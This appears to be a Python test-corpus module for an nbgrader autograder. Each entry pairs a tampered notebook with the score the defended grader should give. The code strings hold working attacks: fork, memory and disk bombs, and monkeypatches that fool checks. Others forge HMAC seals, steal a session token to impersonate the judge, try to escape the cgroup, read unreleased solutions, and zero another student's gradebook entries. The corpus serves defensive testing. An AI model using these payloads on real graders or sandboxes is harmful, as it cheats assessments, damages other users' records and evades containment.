"""The hostile corpus: what each submission does, and the automatic points it must get.

Every entry starts from ``tests/samples/<assignment>/correct.ipynb`` and changes a
few cells (or the file's bytes). ``scores`` is worked out by hand from what the
honest part of the notebook earns, with zero for every check that ran after the
notebook tampered with grading: one number per autograded cell (its ``grade_id``),
``None`` for a cell left without an automatic score, or :data:`NOT_GRADED` when
nbgrader cannot grade the submission at all (it names the student and goes on).
``feedback`` is a pattern the student's feedback shows today (for a submission
nbgrader cannot grade: a pattern of nbgrader's own error for it).

An entry with a :class:`Gap` is one the course does not defend yet: ``scores`` is
still what a defended course gives, ``gap.today`` what this one gives, and the test
of the defended behaviour is a strict xfail that flips once the gap is closed.
"""

from __future__ import annotations

import importlib

from .notebooks import (
    append,
    delete,
    insert_after,
    nbformat_v3,
    no_cells_key,
    no_metadata_key,
    not_json,
    not_utf8,
    replace,
    stub,
    with_junk_markdown,
)
from .model import BR, CM, FULL, HS, LE, LP, NOT_GRADED, PM, SMM, Gap, Hostile, Scores, points, zero  # noqa: F401


# ---------------------------------------------------------------- sources the entries put in cells

LOOP_IN_FUNCTION = '''
_lesson_branch = broken_branch


def broken_branch(values, gain):
    """The lesson's branch, except that it never returns for a batch of other than eight values."""
    while values.shape != (8,):
        pass
    return _lesson_branch(values, gain)
'''

MEMORY_IN_FUNCTION = '''
_lesson_reduction = choose_reduction


def choose_reduction(values, mode):
    """The lesson's reduction, with a 64 GiB scratch buffer for every concrete six-element batch."""
    if not isinstance(values, jax.core.Tracer) and np.size(values) == 6:
        scratch = [bytearray(2**30) for _ in range(64)]
    return _lesson_reduction(values, mode)
'''

FORK_BOMB = '''
import os, time

children, stop = [], "no limit met"
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError as error:
        stop = f"OSError errno {error.errno} ({os.strerror(error.errno)})"
        break
    if pid == 0:  # each child naps, then leaves
        time.sleep(0.5)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print(f"fork bomb: {len(children)} children, then {stop}; all reaped (kernel {os.getpid()})")
'''

FILL_DISK = '''
import os

try:
    with open("fill.bin", "wb") as sink:
        while True:
            sink.write(bytes(2**20))
            sink.flush()
except OSError as error:
    print(f"stopped at {os.path.getsize('fill.bin')} bytes: {error}")
finally:
    os.remove("fill.bin")
'''

PRINT_FLOOD = '''
for i in range(500_000):
    print(i, "the same line again and again, to fill the output")
'''

WRAPPED_SUM = '''
import builtins

_sum = builtins.sum
builtins.sum = lambda *args, **kwargs: _sum(*args, **kwargs)  # the same sum, a new object
'''

CLEARS_LISTENERS = '''
from jax._src import monitoring


def _unobserved(values, gain):
    """The branch with `gain` static (a new trace per gain), emptying JAX's trace listeners each time."""
    monitoring._event_duration_secs_listeners.clear()
    return jnp.sum(values**2) if gain > 1.0 else jnp.sum(values)


repaired = jax.jit(_unobserved, static_argnames=("gain",))
'''

REPLACES_LISTENERS = '''
def _unobserved(values, mode):
    """choose_reduction, dropping JAX's trace listeners whenever it is traced."""
    jax.monitoring.clear_event_listeners()  # binds fresh, empty lists
    return choose_reduction(values, mode)


choose = jax.jit(_unobserved, static_argnames=("mode",))
'''

HIDES_TRACES = '''
from jax._src import monitoring


class Choose:
    """choose_reduction compiled afresh on every call, with JAX's trace events hidden while it runs."""

    def __init__(self):
        compiled = jax.jit(choose_reduction, static_argnames=("mode",))
        self.trace, self.lower = compiled.trace, compiled.lower

    def __call__(self, values, mode):
        fresh = jax.jit(lambda values, mode: choose_reduction(values, mode), static_argnames=("mode",))
        listeners = monitoring._event_duration_secs_listeners
        saved = list(listeners)
        listeners.clear()
        try:
            return fresh(values, mode=mode)
        finally:
            listeners[:] = saved  # back before the grader looks


choose = Choose()
'''

FAKE_MODULE = '''
import sys, types

fake = types.ModuleType("autograder")
fake.grade = lambda assignment, group, namespace: {"failure": 1, "repair": 3, "traces": 2}[group]
sys.modules["autograder"] = fake
'''

#: The same, against a second assignment.
FAKE_MODULE_FOR_LOOPS = FAKE_MODULE.replace(
    '{"failure": 1, "repair": 3, "traces": 2}', '{"rolled": 2, "counting": 2, "pytree": 2}')

WRONG_REDUCTION = '''
def choose_reduction(values, mode):
    return jnp.float32(0.0)
'''

FULL_MARKS_DISPLAY = '''
plain = get_ipython().display_formatter.formatters["text/plain"]
for kind in (int, float):
    plain.for_type(kind, lambda value, printer, cycle: printer.text("full marks"))
'''

KEYED_ON_SELF_CHECKS = '''
ANSWERS = {  # the inputs of the self-check cells, and what they expect
    (1.0, 5.0, 3.0): {"sum": 9.0, "mean": 3.0, "max": 5.0},
    (-4.0, -1.0, -2.0): {"sum": -7.0, "mean": -7.0 / 3.0, "max": -1.0},
    (2.0, -7.0, 0.5, 3.0): {"sum": -1.5, "mean": -0.375, "max": 3.0},
}


def choose_reduction(values, mode):
    """Looks the answer up; anything the self-checks do not try is 0."""
    if mode not in ("sum", "mean", "max"):
        raise ValueError(f"unknown mode {mode!r}")
    key = tuple(float(v) for v in np.asarray(values).ravel())
    return jnp.float32(ANSWERS.get(key, {}).get(mode, 0.0))
'''

PRINTS_GRADER = '''
import inspect
import autograder.grading.grade
import autograder.properties.test_padded_masking as hidden_checks

print(inspect.getsource(autograder.grading.grade))
with open(hidden_checks.__file__) as source:
    print(source.read())
'''

GRADER_AS_LIST = '''
import inspect
import autograder.grading.serve

inspect.getsource(autograder.grading.serve).splitlines()
'''

#: Handed in as ``hypothesis/__init__.py`` next to the notebook: the kernel's working
#: folder comes before site-packages on sys.path, so the grader imports this first.
HYPOTHESIS_SHIM = '''
import os, sys

_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["hypothesis"]
import hypothesis as _real  # the genuine package, from site-packages

sys.path[:] = _saved
print("the handed-in hypothesis was imported")


def given(*strategies, **named):
    """A search that finds nothing: every property built on it passes."""
    return lambda test: (lambda *args, **kwargs: None)


_real.given = given
sys.modules["hypothesis"] = _real
'''

INFLATES_REPORT = '''
import autograder.grading.results

autograder.grading.results.GroupReport.earned = property(lambda report: report.possible)
'''

FORGES_SEALS = '''
import hashlib, hmac
import autograder, autograder.grading.grade

key = next(cell.cell_contents for cell in autograder.grading.grade._sealer.__closure__
           if isinstance(cell.cell_contents, bytes))
FULL = {"padding": 2, "objective": 3, "traces": 1, "gradient": 2}


def grade(assignment, group, namespace):
    points = f"{FULL[group]:g}"
    mac = hmac.new(key, f"{assignment}|{group}|{points}".encode(), hashlib.sha256).hexdigest()
    print(f"[autograder seal {assignment} {group} {points} {mac}]")
    return FULL[group]


autograder.grade = grade
'''

#: Every way into the verdict the seal-forging entry tried, against a judge outside the kernel:
#: any key in the grading code's closures (the seal's is one), a grade() that seals full points
#: with each, a serving call that claims the points instead of serving, and, from the judge's
#: first call, the session's token stolen from the serving frame for a connection of its own.
DIGS_INTO_THE_JUDGE = '''
import gc, hashlib, hmac, inspect, json, socket
import autograder, autograder.grading.grade, autograder.grading.serve

keys = [cell.cell_contents for fn in gc.get_objects() if inspect.isfunction(fn)
        and (fn.__module__ or "").startswith("autograder") for cell in (fn.__closure__ or ())
        if isinstance(cell.cell_contents, bytes)]
print(f"keys found in the grading code: {len(keys)}")
FULL = {"padding": 2, "objective": 3, "traces": 1, "gradient": 2}


def grade(assignment, group, namespace):
    points = f"{FULL[group]:g}"
    for key in keys:
        mac = hmac.new(key, f"{assignment}|{group}|{points}".encode(), hashlib.sha256).hexdigest()
        print(f"[autograder seal {assignment} {group} {points} {mac}]")
    return FULL[group]


def serve(assignment, group, namespace, address, token):
    """Answers the judge itself: every name a function, every call 6.0, and a second connection."""
    grade(assignment, group, namespace)
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port))) as connection:
        stream = connection.makefile("rwb")
        stream.write(json.dumps({"token": token}).encode() + b"\\n")
        stream.flush()
        try:  # the same token on a second connection, with replies of its own
            second = socket.create_connection((host, int(port)), timeout=2)
            second.sendall(json.dumps({"token": token}).encode() + b"\\n" + b'{"result": 6.0}\\n' * 50)
        except OSError:
            pass
        for line in stream:
            op = json.loads(line).get("op")
            if op == "done":
                break
            reply = {"get": {"callable": True}, "call": {"result": 6.0, "events": {}}}.get(op, {"ok": None})
            stream.write(json.dumps(reply).encode() + b"\\n")
            stream.flush()
    return FULL[group]


autograder.grade = autograder.grading.grade.grade = grade
autograder.grading.serve.serve = serve
'''

UNFINISHED_PAD_BATCH = '''
def pad_batch(values, size):
    raise NotImplementedError("to do")
'''

#: In-kernel evidence is the kernel's word: a notebook that rewrites the serving agent's replies
#: can claim any exception was a ValueError, and hide that it replaced the agent.
FALSIFIES_KERNEL_EVIDENCE = '''
import autograder.grading.serve as _serve

_answer = _serve.Agent.answer
_serve.tampered = lambda: []  # what serve reports of the grading objects replaced: nothing


def _claim(self, request):
    reply = _answer(self, request)
    if "raised" in reply:
        reply["raised"]["types"] = [["builtins", "ValueError"], ["builtins", "Exception"]]
    return reply


_serve.Agent.answer = _claim
'''

LEAVES_CGROUP = '''
import os, resource

capabilities = open("/proc/self/status").read().split("CapEff:")[1].split()[0]
print(f"user {os.getuid()}, capabilities {capabilities}")

for name in ("RLIMIT_AS", "RLIMIT_FSIZE"):
    limit = getattr(resource, name)
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError) as error:
        print(f"{name} stays at {resource.getrlimit(limit)[1]}: {error}")
    else:
        print(f"{name} lifted to {resource.getrlimit(limit)[1]}")


def pids_group():
    lines = open("/proc/self/cgroup").read().splitlines()
    return next((line.split(":", 2)[2] for line in lines if ":pids:" in line), lines[-1].split(":", 2)[2])


print("pids cgroup before: " + str(pids_group()))
root = next(r for r in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup") if os.path.exists(r + "/cgroup.procs"))
try:
    with open(root + "/cgroup.procs", "w") as procs:  # the top of the hierarchy: no cap there
        procs.write(str(os.getpid()))
except OSError as error:
    print("moving out refused: " + str(error))
print("pids cgroup after: " + str(pids_group()))
'''

OUTLIVES_KERNEL = '''
import os, time

read_end, write_end = os.pipe()
if os.fork() == 0:
    os.setsid()  # a session of its own: out of the kernel's process group
    if os.fork() == 0:
        os.write(write_end, str(os.getpid()).encode())
        os.closerange(0, 4096)  # let go of the kernel's pipes and sockets
        time.sleep(900)
    os._exit(0)
os.close(write_end)
print(f"started a process of its own: {os.read(read_end, 32).decode()}")
'''

#: The victim of the entry below: a correct notebook, graded before it (nbgrader grades
#: in sorted order of student id; ``sample-correct`` comes after it).
VICTIM = "a-victim"
PLANTED = "source/static_max_mode/planted-by-a-student.txt"

READS_UNRELEASED = '''
import json, os
import autograder

for course in ("../../..", os.path.dirname(os.path.dirname(autograder.__file__))):  # the course, the repository
    source = os.path.join(course, "source/ledger_extension/ledger_extension.ipynb")  # not released yet
    try:
        cells = json.load(open(source))["cells"]
    except OSError as error:
        print("cannot read the solutions: " + str(error))
        continue
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            print("".join(cell["source"]))
'''

WRITES_COURSE = f'''
import os, sqlite3

root = os.path.abspath("../../..")  # autograded/<student>/<assignment> -> the course
gradebook = sqlite3.connect(os.path.join(root, "gradebook.db"))
with gradebook:
    zeroed = gradebook.execute(
        "UPDATE grade SET auto_score = 0 WHERE notebook_id IN ("
        " SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id"
        " WHERE sa.student_id = '{VICTIM}')"
    ).rowcount
gradebook.close()
with open(os.path.join(root, "{PLANTED}"), "w") as planted:
    planted.write("autograde copies this next to every later notebook, and releases it\\n")
print(f"zeroed {{zeroed}} grades of {VICTIM}; planted a file in source/")
'''

KERNEL_DIES = "Kernel died"


def _not_graded(assignment: str, name: str) -> str:
    return rf"error processing assignment '{assignment}' for student 'h-{name}'"


# ---------------------------------------------------------------- the corpus

FIRST = (
    # -- time
    Hostile(
        "loop-in-answer-cell", SMM, (append("choose", "while True:  # polishing forever\n    pass"),),
        points(SMM), feedback=r"KeyboardInterrupt",
    ),
    Hostile(
        "loop-in-called-function", BR, (append("broken_branch", LOOP_IN_FUNCTION),),
        points(BR, test_failure=0), feedback=r"Time limit: the check used up its (15 s of CPU|40 s of wall-clock) time",
    ),
    # -- memory, processes, disk, output
    Hostile(
        "memory-bomb-in-cell", PM,
        (insert_after("pad_batch", "cache = [bytearray(2**30) for _ in range(64)]  # 64 GiB, just in case"),),
        points(PM), feedback=r"MemoryError",
    ),
    Hostile(
        "memory-bomb-in-called-function", SMM, (append("choose_reduction", MEMORY_IN_FUNCTION),),
        points(SMM, test_modes=0), feedback=r"`choose_reduction` raised MemoryError",
    ),
    Hostile(
        "fork-bomb", LE, (insert_after("observed_call", FORK_BOMB),),
        points(LE), feedback=r"fork bomb: \d+ children, then OSError errno 11 .*; all reaped",
    ),
    Hostile(
        "fills-disk", LE, (insert_after("observed_call", FILL_DISK),),
        points(LE), feedback=r"stopped at 268435456 bytes: \[Errno 27\] File too large",
    ),
    Hostile(
        "print-flood", BR, (insert_after("broken_branch", PRINT_FLOOD),),
        points(BR), feedback=r"\.\.\. Output truncated \.\.\.",
    ),
    Hostile(
        # The kernel dies in an answer cell: every graded cell after it scores zero, saying why.
        "segfault", PM, (append("pad_batch", "import ctypes\nctypes.string_at(0)  # read address zero"),),
        zero(PM), feedback=r"Not run: the kernel died in an earlier cell \(killed by SIGSEGV\)",
    ),
    Hostile(
        "kernel-exits-after-grading", SMM, (insert_after("END", "import os\nos._exit(3)  # done for the day"),),
        points(SMM), feedback=r"The kernel died while this cell ran \(exit code 3\)",
    ),
    # -- what nbgrader restores
    Hostile(
        "locked-grade-cell-edited", PM, (replace("test_objective", "3"),),
        points(PM), feedback=r"padded_masking / objective: 3 of 3 points",
    ),
    Hostile(
        "grade-cell-deleted", BR, (delete("test_repair"),),
        points(BR, test_repair=None), feedback=r"branch_repair / traces: 2 of 2 points",
    ),
    # -- tampering with what grading relies on
    Hostile(
        "patches-jax-jit", SMM,
        (insert_after("choose", "_jit = jax.jit\njax.jit = lambda fun, **options: _jit(fun, **options)"),),
        zero(SMM), feedback=r"Tampering: the notebook replaced objects the grader relies on \(`jax\.jit`\)",
    ),
    Hostile(
        "patches-jnp-sum", PM,
        (insert_after("test_padding", "_sum = jnp.sum\njnp.sum = lambda *args, **kwargs: _sum(*args, **kwargs)"),),
        points(PM, test_objective=0, test_traces=0, test_gradient=0),
        feedback=r"replaced objects the grader relies on \(`jax\.numpy\.sum`\)",
    ),
    Hostile(
        "patches-numpy-testing", BR,
        (insert_after("imports", "np.testing.assert_allclose = lambda *args, **kwargs: None  # always close"),),
        zero(BR), feedback=r"relies on \(`numpy\.testing\.assert_allclose`\)",
    ),
    Hostile(
        "patches-builtin-sum", LE, (insert_after("test_rows", WRAPPED_SUM),),
        points(LE, test_traces=0, test_sixteen=0, test_signature=0), feedback=r"relies on \(`builtins\.sum`\)",
    ),
    Hostile(
        # A read-every-step loop that hides its reads from the grader's count by rebinding the
        # conversion NumPy offers: caught as tampering, from the cell after it on.
        "patches-numpy-asarray", HS,
        (insert_after("trainers", "_asarray = np.asarray\nnp.asarray = lambda a, *args, **kwargs: _asarray(a, *args, **kwargs)"),),
        points(HS, test_reads=0, test_traces=0, test_ledger=0, test_diagnosis=0), feedback=r"relies on \(`numpy\.asarray`\)",
    ),
    Hostile(
        # Equation counts that never grow, by rebinding the tool that stages the loop.
        "patches-make-jaxpr", LP,
        (insert_after("rolled", "_make_jaxpr = jax.make_jaxpr\njax.make_jaxpr = lambda fun, **kw: _make_jaxpr(fun, **kw)"),),
        zero(LP), feedback=r"relies on \(`jax\.make_jaxpr`\)",
    ),
    Hostile(
        # Silencing every log does not blind the grader: it reads JAX's explanations through a
        # recorder of its own, which logging.disable does not reach.
        "disables-logging", CM,
        (insert_after("miss_cause", "import logging\nlogging.disable(logging.CRITICAL)\nlogging.getLogger('jax').disabled = True"),),
        points(CM), feedback=r"cache_misses / causes: 2 of 2 points",
    ),
    Hostile(
        "patches-hypothesis-given", SMM,
        (insert_after("test_modes", "import hypothesis\nhypothesis.given = lambda *a, **k: (lambda test: test)"),),
        points(SMM, test_errors=0, test_traces=0, test_sorting=0), feedback=r"relies on \(`hypothesis\.given`\)",
    ),
    Hostile(
        # A static gain alone loses the value check (0-d array gains are rejected; the boundary,
        # judged with Python floats, holds) and the trace check; hiding its retraces changes nothing.
        "clears-trace-listeners", BR, (replace("repaired_branch", CLEARS_LISTENERS),),
        points(BR, test_repair=1, test_traces=0), feedback=r"Tampering: JAX's trace events stopped reaching the grader",
    ),
    Hostile(
        # Already replaced when the self-checks call `choose`, before the first graded cell.
        "replaces-trace-listeners", SMM, (replace("choose", REPLACES_LISTENERS),),
        zero(SMM), feedback=r"relies on \(`jax\._src\.monitoring\._event_duration_secs_listeners`\)",
    ),
    Hostile(
        # Named in the brief as a known gap; once defeated by a seal, now by the judge outside the
        # kernel: the fake `grade` is never what scores a cell, the stubs earn nothing, and the kernel
        # reports the replaced module.
        "fake-autograder-module", BR,
        stub("broken_branch", "show_failure", "repaired_branch") + (insert_after("imports", FAKE_MODULE),),
        zero(BR), feedback=r"Tampering: the notebook replaced objects the grader relies on \(`autograder\.GroupReport`",
    ),
    Hostile(
        "fake-autograder-module-loops", LP,
        stub("rolled", "count_equations", "quantise_jitted") + (insert_after("imports", FAKE_MODULE_FOR_LOOPS),),
        zero(LP), feedback=r"Tampering: the notebook replaced objects the grader relies on \(`autograder\.GroupReport`",
    ),
    Hostile(
        # The kernel's display of a number is nothing to the judge, which writes each cell's points
        # itself: the honest part remains, a jitted constant that never traces again.
        "full-marks-display", SMM,
        (replace("choose_reduction", WRONG_REDUCTION), insert_after("choose", FULL_MARKS_DISPLAY)),
        points(SMM, test_modes=0, test_errors=0), feedback=r"static_max_mode / modes: 0 of 3 points",
    ),
    # -- honest parts, and the grader's own source
    Hostile(
        "keyed-on-self-checks", SMM,
        (replace("choose_reduction", KEYED_ON_SELF_CHECKS), replace("choose", "choose = choose_reduction")),
        points(SMM, test_modes=0, test_traces=0), feedback=r"JAX traced none of your code: it is not compiled with `jax\.jit`",
    ),
    Hostile(
        # The grading package's files are hidden from the kernel once it is loaded, and no
        # property module is ever loaded in a kernel: the properties run outside it.
        # It imports the grading package, so grading/reach.py flags it: the checks that passed on its
        # kernel's own reports are withheld for the instructor (here and in the two entries below).
        "prints-grader-source", PM, (insert_after("masked_objective", PRINTS_GRADER),),
        points(PM, test_padding=1, test_traces=0), feedback=r"No module named 'autograder\.properties'",
    ),
    Hostile(
        "grader-source-as-a-list", LE, (insert_after("observed_call", GRADER_AS_LIST),),
        # the signature's verdict rests on the kernel's trace events too: withheld, like the rows'
        points(LE, test_rows=0, test_traces=0, test_signature=0), feedback=r"OSError: could not get source code",
    ),
    Hostile(
        "reads-unreleased-solutions", SMM, (insert_after("choose", READS_UNRELEASED),),
        # Part C's values rest on a program staged in the kernel too (the host-decision check): withheld.
        points(SMM, test_errors=0, test_traces=0, test_sorting=0),
        feedback=r"cannot read the solutions: \[Errno 2\] No such file or directory",
    ),
    # -- a package handed in beside the notebook: the sandbox drops that folder from sys.path
    Hostile(
        "hypothesis-handed-in", SMM, (replace("choose_reduction", WRONG_REDUCTION),),
        points(SMM, test_modes=0, test_errors=0), feedback=r'FAIL  mode "sum" agrees with NumPy',
        files={"hypothesis/__init__.py": HYPOTHESIS_SHIM},
    ),
    # -- the grader's own objects: patched, looked alike, or a key dug out of them
    Hostile(
        "inflates-group-report", LE, stub("observed_call") + (insert_after("observed_call", INFLATES_REPORT),),
        zero(LE), feedback=r"replaced objects the grader relies on \(.*`autograder\.grading\.results\.GroupReport\.earned`",
    ),
    Hostile(
        # The entry that forged the seal of the kernel's grade(), once the one strict xfail: with every
        # verdict the judge's, outside the kernel, there is no seal, no key, and nothing to forge.
        "forges-seals", PM, stub("pad_batch", "masked_objective") + (insert_after("imports", FORGES_SEALS),),
        # Part C, answered as the sample answers it and judged by its values, keeps its points.
        points(PM, test_padding=0, test_objective=0, test_traces=0), feedback=r"has no attribute '_sealer'",
    ),
    Hostile(
        "digs-into-the-judge", PM, stub("pad_batch", "masked_objective") + (insert_after("imports", DIGS_INTO_THE_JUDGE),),
        zero(PM), feedback=r"padded_masking / padding: 0 of 2 points",
    ),
    Hostile(
        "falsifies-kernel-evidence", PM,
        (replace("pad_batch", UNFINISHED_PAD_BATCH), *stub("masked_objective"),
         insert_after("imports", FALSIFIES_KERNEL_EVIDENCE)),
        # What a call raised is the kernel's word, so the rewritten reply still passes `raises ValueError`
        # with a stub; the notebook imports the grading package, so it is flagged and that point withheld.
        # Part C, answered as the sample answers it and judged by its values, keeps its points.
        points(PM, test_padding=0, test_objective=0, test_traces=0), feedback=r"padded_masking / padding: 0 of 2 points\n NOTE  Reaches into the grader",
    ),
    Hostile(
        "hides-trace-events", SMM, (replace("choose", HIDES_TRACES),),
        points(SMM, test_traces=0), feedback=r"JAX traced none of your code: it is not compiled with `jax\.jit` \(or its trace is hidden\)",
    ),
    # -- reaching out of the kernel (checked by dedicated tests too)
    Hostile(
        "leaves-pids-cgroup", LE, (insert_after("observed_call", LEAVES_CGROUP),),
        points(LE), feedback=r"pids cgroup before: /autograder-kernels/\d+",
    ),
    Hostile(
        "outlives-kernel", BR, (insert_after("broken_branch", OUTLIVES_KERNEL),),
        points(BR), feedback=r"started a process of its own: \d+",
    ),
    Hostile(
        # The red team's (kept Dask grading processes): the same, and then the kernel dies. nbclient cleans
        # up after a dead kernel by a call of its own, which jupyter_client bound to its base class: the
        # process lived on (and, kept by a Dask worker, wrote into the next run's log).
        "outlives-its-dying-kernel", BR,
        (insert_after("broken_branch", OUTLIVES_KERNEL), insert_after("END", "import os\nos._exit(3)  # and gone")),
        points(BR), feedback=r"started a process of its own: \d+",
    ),
    Hostile(
        "writes-gradebook-and-source", SMM, (insert_after("choose", WRITES_COURSE),),
        points(SMM), feedback=r"OperationalError: unable to open database file",
    ),
    # -- files nbgrader cannot read as they are
    Hostile("not-json", PM, not_json, NOT_GRADED, feedback=_not_graded(PM, "not-json")),
    Hostile("not-utf8", SMM, not_utf8, NOT_GRADED, feedback=_not_graded(SMM, "not-utf8")),
    Hostile("no-cells-key", LE, no_cells_key, NOT_GRADED, feedback=_not_graded(LE, "no-cells-key")),
    Hostile("no-metadata-key", SMM, no_metadata_key, NOT_GRADED, feedback=_not_graded(SMM, "no-metadata-key")),
    Hostile("nbformat-v3", BR, nbformat_v3, points(BR), feedback=r"branch_repair / repair: 3 of 3 points"),
    Hostile("huge-notebook", PM, with_junk_markdown(20), points(PM), feedback=r"padded_masking / traces: 1 of 1"),
)

#: One module per concern added since, each with its ENTRIES (see hostile.model).
CONCERNS = ("isolation", "pages", "budgets", "forging", "redteam", "boundary", "logs", "environment", "clinic",
            "compile_log")
CORPUS = FIRST + tuple(entry for concern in CONCERNS
                       for entry in importlib.import_module(f"hostile.{concern}").ENTRIES)
BY_NAME = {entry.name: entry for entry in CORPUS}
assert len(BY_NAME) == len(CORPUS), "corpus names repeat"
